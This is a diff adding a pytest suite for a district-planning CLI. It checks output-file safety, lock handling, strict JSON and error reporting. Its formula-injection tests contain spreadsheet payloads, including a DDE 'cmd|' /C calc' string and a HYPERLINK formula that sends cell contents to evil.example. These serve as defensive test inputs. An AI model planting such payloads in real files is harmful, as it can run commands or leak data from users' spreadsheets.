@@ -1,0 +1,354 @@
+"""Issue 7, items 1, 6, 9 and 10: never touch what is not ours; safe, strict output files.
+
+Every CLI case asserts the exit code, the key words of the message, and, where a user
+file is at stake, that it is byte for byte unchanged (SHA-256 before and after). The
+district is the 1,500 m street of ``conftest.line_district`` (4 valid communities, 1
+rejected, one station).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import math
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import geopandas as gpd
+import numpy as np
+import pandas as pd
+import pytest
+from click.testing import CliRunner
+
+import planner.pipeline
+from planner.cli import main
+from planner.io import escape_formula, to_json, write_csv
+from planner.io.guard import LOCK_NAME, MANIFEST_NAME, PARTIAL_MARK
+from planner.io.outputs import OUTPUT_FILES
+from planner.io.writers import decimals_for
+
+
+def sha(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def checksums(folder: Path) -> dict[str, str]:
+    """Relative path → SHA-256 of every file under ``folder``."""
+    return {str(p.relative_to(folder)): sha(p) for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def run(d: dict[str, Path], out: object, *extra: str, **kw: object):
+    args = ["run", "--network", str(d["network"]), "--communities", str(d["communities"]),
+            "--facilities", str(d["facilities"]), "--profile", "changji", "--out", str(out),
+            *extra]
+    return CliRunner().invoke(main, args, **kw)
+
+
+def assert_refused(result, *words: str) -> None:
+    assert result.exit_code == 2, result.output
+    assert "Traceback" not in result.output
+    for word in words:
+        assert word in result.output, (word, result.output)
+    assert "loading network" not in result.output  # refused before any computing
+
+
+# ---------------------------------------------------------------------------
+# item 1: outputs never replace the user's files
+
+
+def test_out_is_the_folder_of_an_input(line_district):
+    d = line_district
+    before = checksums(d["dir"])
+    result = run(d, d["dir"])
+    assert_refused(result, "--out", "folder holding the input file", "communities.csv")
+    assert checksums(d["dir"]) == before
+
+
+def test_out_is_an_input_file(line_district):
+    d = line_district
+    before = checksums(d["dir"])
+    result = run(d, d["communities"])
+    assert_refused(result, "--out", "is a file")
+    assert checksums(d["dir"]) == before
+
+
+def test_map_is_an_input_file(line_district, tmp_path):
+    d = line_district
+    before = checksums(d["dir"])
+    result = run(d, tmp_path / "o", "--map", str(d["communities"]))
+    assert_refused(result, "--map", "input files")
+    assert checksums(d["dir"]) == before
+
+
+def test_map_must_be_html(line_district, tmp_path):
+    result = run(line_district, tmp_path / "o", "--map", str(tmp_path / "map.png"))
+    assert_refused(result, "--map", ".html")
+
+
+def test_map_will_not_replace_a_file_that_is_not_html(line_district, tmp_path):
+    notes = tmp_path / "meeting.html"
+    notes.write_text("my own notes, not a web page", encoding="utf-8")
+    result = run(line_district, tmp_path / "o", "--map", str(notes))
+    assert_refused(result, "--map", "not an HTML page")
+    assert notes.read_text(encoding="utf-8") == "my own notes, not a web page"
+
+
+def test_empty_out_is_refused_and_the_working_directory_untouched(line_district, tmp_path):
+    cwd = tmp_path / "cwd"
+    cwd.mkdir()
+    (cwd / "communities.csv").write_text("mine\n", encoding="utf-8")
+    before = checksums(cwd)
+    old = Path.cwd()
+    os.chdir(cwd)
+    try:
+        result = run(line_district, "")
+    finally:
+        os.chdir(old)
+    assert_refused(result, "--out is empty")
+    assert checksums(cwd) == before
+
+
+def test_unwritable_out_is_found_before_computing(line_district, tmp_path):
+    blocker = tmp_path / "a-file"
+    blocker.write_text("x", encoding="utf-8")
+    result = run(line_district, blocker / "out")  # a folder inside a regular file
+    assert_refused(result, "--out", "cannot write there")
+
+
+def test_unwritable_map_is_found_before_computing(line_district, tmp_path):
+    blocker = tmp_path / "a-file"
+    blocker.write_text("x", encoding="utf-8")
+    result = run(line_district, tmp_path / "o", "--map", str(blocker / "map.html"))
+    assert_refused(result, "--map", "cannot write there")
+    assert not (tmp_path / "o" / "summary.json").exists()
+
+
+def test_map_equal_to_out_gap_map_is_fine(line_district, tmp_path):
+    out = tmp_path / "o"
+    result = run(line_district, out, "--map", str(out / "gap_map.html"))
+    assert result.exit_code == 0, result.output
+    assert (out / "gap_map.html").stat().st_size > 10_000
+
+
+def test_foreign_partial_folder_and_map_survive(line_district, tmp_path):
+    """A `.partial-anything/` folder and a gap_map.html the planner did not write stay."""
+    out = tmp_path / "o"
+    out.mkdir()
+    foreign = out / ".partial-anything"
+    foreign.mkdir()
+    (foreign / "thesis.docx").write_bytes(b"years of work")
+    (out / "gap_map.html").write_text("<html>my own map</html>", encoding="utf-8")
+    ours = out / ".partial-planner-123-abc"  # left by a killed run, with the mark
+    ours.mkdir()
+    (ours / PARTIAL_MARK).write_text("", encoding="utf-8")
+    before = {**checksums(foreign), "map": sha(out / "gap_map.html")}
+    result = run(line_district, out, "--no-map")
+    assert result.exit_code == 0, result.output
+    assert {**checksums(foreign), "map": sha(out / "gap_map.html")} == before
+    assert not ours.exists()
+    assert (out / "summary.json").exists()
+
+
+def test_foreign_file_with_an_output_name_is_not_replaced(line_district, tmp_path):
+    out = tmp_path / "o"
+    out.mkdir()
+    (out / "targets.csv").write_text("my budget table\n", encoding="utf-8")
+    before = checksums(out)
+    result = run(line_district, out, "--no-map")
+    assert result.exit_code == 2, result.output
+    assert "targets.csv" in result.output and "did not write" in result.output
+    assert "Traceback" not in result.output
+    assert checksums(out) == before
+
+
+def test_rerun_replaces_its_own_files_and_edited_ones_are_protected(line_district, tmp_path):
+    out = tmp_path / "o"
+    assert run(line_district, out, "--no-map").exit_code == 0
+    manifest = json.loads((out / MANIFEST_NAME).read_text(encoding="utf-8"))
+    assert set(manifest["files"]) == {n for n in OUTPUT_FILES if (out / n).exists()}
+    assert run(line_district, out, "--no-map").exit_code == 0  # its own files: replaced
+    with (out / "streets.csv").open("a", encoding="utf-8") as f:
+        f.write("my edit\n")  # the user edited an output: it is theirs now
+    edited = sha(out / "streets.csv")
+    result = run(line_district, out, "--no-map")
+    assert result.exit_code == 2 and "streets.csv" in result.output
+    assert sha(out / "streets.csv") == edited
+
+
+def test_second_run_into_a_locked_folder_stops(line_district, tmp_path):
+    out = tmp_path / "o"
+    out.mkdir()
+    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
+    try:
+        (out / LOCK_NAME).write_text(json.dumps({"pid": sleeper.pid, "host": ""}),
+                                     encoding="utf-8")
+        result = run(line_district, out)
+    finally:
+        sleeper.kill()
+        sleeper.wait()
+    assert result.exit_code == 2, result.output
+    assert "another planner run" in result.output and str(sleeper.pid) in result.output
+    assert not (out / "summary.json").exists()
+    assert (out / LOCK_NAME).exists()  # the other run's lock is left alone
+
+
+def test_stale_lock_of_a_killed_run_is_taken_over(line_district, tmp_path):
+    out = tmp_path / "o"
+    out.mkdir()
+    dead = subprocess.Popen([sys.executable, "-c", "pass"])
+    dead.wait()
+    (out / LOCK_NAME).write_text(json.dumps({"pid": dead.pid, "host": ""}), encoding="utf-8")
+    result = run(line_district, out, "--no-map")
+    assert result.exit_code == 0, result.output
+    assert not (out / LOCK_NAME).exists()  # released at the end
+    assert (out / "summary.json").exists()
+
+
+# ---------------------------------------------------------------------------
+# item 6: formula injection
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=HYPERLINK(\"http://x\"&A2)", "'=HYPERLINK(\"http://x\"&A2)"),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("-5", "-5"),  # a signed number is data
+    ("幸福小区", "幸福小区"),
+])
+def test_escape_formula(value, expected):
+    assert escape_formula(value) == expected
+
+
+def test_write_csv_keeps_numbers_numbers(tmp_path):
+    frame = pd.DataFrame({"name": ["=1+1", "ok"], "households": [-3, 200],
+                          "share_meets": [1 / 3, np.inf]})
+    path = write_csv(frame, tmp_path / "t.csv")
+    back = pd.read_csv(path, encoding="utf-8-sig")
+    assert back["name"].tolist() == ["'=1+1", "ok"]
+    assert back["households"].tolist() == [-3, 200]  # still numbers, no quote
+    assert back["share_meets"].iloc[0] == 0.3333  # shares to 0.0001
+    assert math.isnan(back["share_meets"].iloc[1])  # infinity is an empty cell
+
+
+def test_community_name_formula_is_escaped_in_csv_not_in_gpkg(line_district, tmp_path):
+    d = line_district
+    frame = pd.read_csv(d["communities"])
+    payload = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+    frame.loc[0, "name"] = payload
+    frame["households"] = frame["households"].astype(object)
+    frame.loc[4, "name"] = "@cmd"  # the rejected row: its value goes to rejects.csv
+    frame.loc[4, "households"] = "=0"
+    path = tmp_path / "evil.csv"
+    frame.to_csv(path, index=False)
+    out = tmp_path / "o"
+    result = CliRunner().invoke(main, [
+        "run", "--network", str(d["network"]), "--communities", str(path), "--facilities",
+        str(d["facilities"]), "--out", str(out), "--no-map"])
+    assert result.exit_code == 0, result.output
+    csv = pd.read_csv(out / "communities.csv", encoding="utf-8-sig", index_col="community_id")
+    assert csv.loc["A", "name"] == "'" + payload
+    gpkg = gpd.read_file(out / "communities.gpkg", layer="communities").set_index("community_id")
+    assert gpkg.loc["A", "name"] == payload  # GeoPackages keep the raw value
+    rejects = pd.read_csv(out / "rejects.csv", dtype=str, encoding="utf-8-sig")
+    assert rejects.loc[0, "value"] == "'=0"
+
+
+# ---------------------------------------------------------------------------
+# item 9: strict JSON, rounding, help
+
+
+def test_to_json_has_no_nan_or_infinity():
+    text = to_json({"a": float("nan"), "b": [np.float64("inf"), -np.inf], "c": np.int64(3),
+                    "shortfall_m2": 12.345678, "nearest_minutes": 4.56789, "value": 1 / 3})
+
+    def refuse(name):
+        raise AssertionError(name)
+
+    data = json.loads(text, parse_constant=refuse)
+    assert data == {"a": None, "b": [None, None], "c": 3, "shortfall_m2": 12.3,
+                    "nearest_minutes": 4.57, "value": 0.3333}
+
+
+@pytest.mark.parametrize(("column", "places"), [
+    ("shortfall_m2", 1), ("accessible_m2_per_100hh", 1), ("nearest_minutes", 2),
+    ("minutes", 2), ("share_households_meets", 4), ("value", 4), ("distance_m", 2),
+    ("households", None),
+])
+def test_decimals_by_column(column, places):
+    assert decimals_for(column) == places
+
+
+def test_summary_json_is_strict_and_rounded(line_district, tmp_path):
+    out = tmp_path / "o"
+    assert run(line_district, out, "--no-map").exit_code == 0
+
+    def refuse(name):
+        raise AssertionError(f"{name} in summary.json")
+
+    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"),
+                         parse_constant=refuse)
+    assert summary["declared_crs"] == {"network": "wgs84", "communities": "wgs84",
+                                       "facilities": "wgs84"}
+    share = summary["network"]["main_component_share"]
+    assert share == round(share, 4)
+    targets = pd.read_csv(out / "targets.csv", encoding="utf-8-sig")
+    values = targets["value"].dropna()
+    assert (values == values.round(4)).all()
+
+
+def test_run_help_lists_every_output_file():
+    result = CliRunner().invoke(main, ["run", "--help"])
+    assert result.exit_code == 0
+    for name in OUTPUT_FILES:
+        assert name in result.output, name
+    assert "--communities-layer" in result.output and "--sheet" in result.output
+
+
+def test_cli_never_prints_temporary_paths(line_district, tmp_path):
+    result = run(line_district, tmp_path / "o")
+    assert result.exit_code == 0, result.output
+    assert ".partial-" not in result.output and "/tmp/tmp" not in result.output
+
+
+# ---------------------------------------------------------------------------
+# item 10: unexpected errors
+
+
+def test_unexpected_error_is_one_line_and_exit_3(line_district, tmp_path, monkeypatch):
+    def broken(*args, **kwargs):
+        raise KeyError("surprise")
+
+    monkeypatch.setattr(planner.pipeline, "load_study_area", broken)
+    result = run(line_district, tmp_path / "o")
+    assert result.exit_code == 3, result.output
+    assert "Traceback" not in result.output
+    lines = [line for line in result.output.splitlines() if "internal error" in line]
+    assert len(lines) == 1 and "KeyError" in lines[0] and "-v" in lines[0]
+
+
+def test_unexpected_error_with_v_shows_the_exception(line_district, tmp_path, monkeypatch):
+    def broken(*args, **kwargs):
+        raise KeyError("surprise")
+
+    monkeypatch.setattr(planner.pipeline, "load_study_area", broken)
+    d = line_district
+    result = CliRunner().invoke(main, [
+        "-v", "run", "--network", str(d["network"]), "--communities", str(d["communities"]),
+        "--facilities", str(d["facilities"]), "--out", str(tmp_path / "o")])
+    assert result.exit_code != 0
+    assert isinstance(result.exception, KeyError)  # re-raised: click shows the traceback
+
+
+def test_out_of_memory_is_bad_input_not_internal(line_district, tmp_path, monkeypatch):
+    def hungry(*args, **kwargs):
+        raise MemoryError
+
+    monkeypatch.setattr(planner.pipeline, "load_study_area", hungry)
+    result = run(line_district, tmp_path / "o")
+    assert result.exit_code == 2, result.output
+    assert "ran out of memory" in result.output and "Traceback" not in result.output
